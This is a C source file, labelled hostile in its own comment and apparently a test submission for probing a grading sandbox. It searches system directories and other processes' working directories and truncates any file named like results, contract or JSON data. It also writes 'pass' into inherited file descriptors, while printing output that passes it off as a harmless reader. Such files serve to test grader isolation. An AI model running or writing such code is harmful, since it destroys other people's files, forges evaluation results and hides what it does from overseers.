/* Hostile: looks for the grader's files, in its own surroundings and through other processes, and destroys
 * them. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int destroy(const char *path, const struct stat *info, int type, struct FTW *where)
{
	int fd;

	(void)info, (void)where;
	if (type == FTW_F && (strstr(path, "results") || strstr(path, "contract") || strstr(path, ".json")) &&
	    (fd = open(path, O_WRONLY | O_TRUNC)) != -1) {
		printf("reader: found %s\n", path);
		close(fd);
	}
	return 0;
}

int main(int argc, char *argv[])
{
	const char *places[] = { "/tmp", "/home", "/root", "/var/tmp", "/opt", "/srv", "/mnt" };
	char path[64];
	int i;

	for (i = 0; i < (int)(sizeof places / sizeof *places); i++)
		nftw(places[i], destroy, 8, FTW_PHYS);
	for (i = 1; i < 40; i++) {
		snprintf(path, sizeof path, "/proc/%d/cwd", i);
		if (i != getpid())
			nftw(path, destroy, 8, FTW_PHYS);
	}
	for (i = 3; i < 64; i++) /* descriptors that the grader may have forgotten to close */
		if (write(i, "pass\n", 5) == 5)
			printf("reader: wrote to descriptor %d\n", i);
	for (i = 1; i < argc; i++)
		printf("reader: read %zu bytes: \"%s\"\n", strlen(argv[i]), argv[i]);
	printf("reader: read 0 bytes: end of file\n");
	return 0;
}
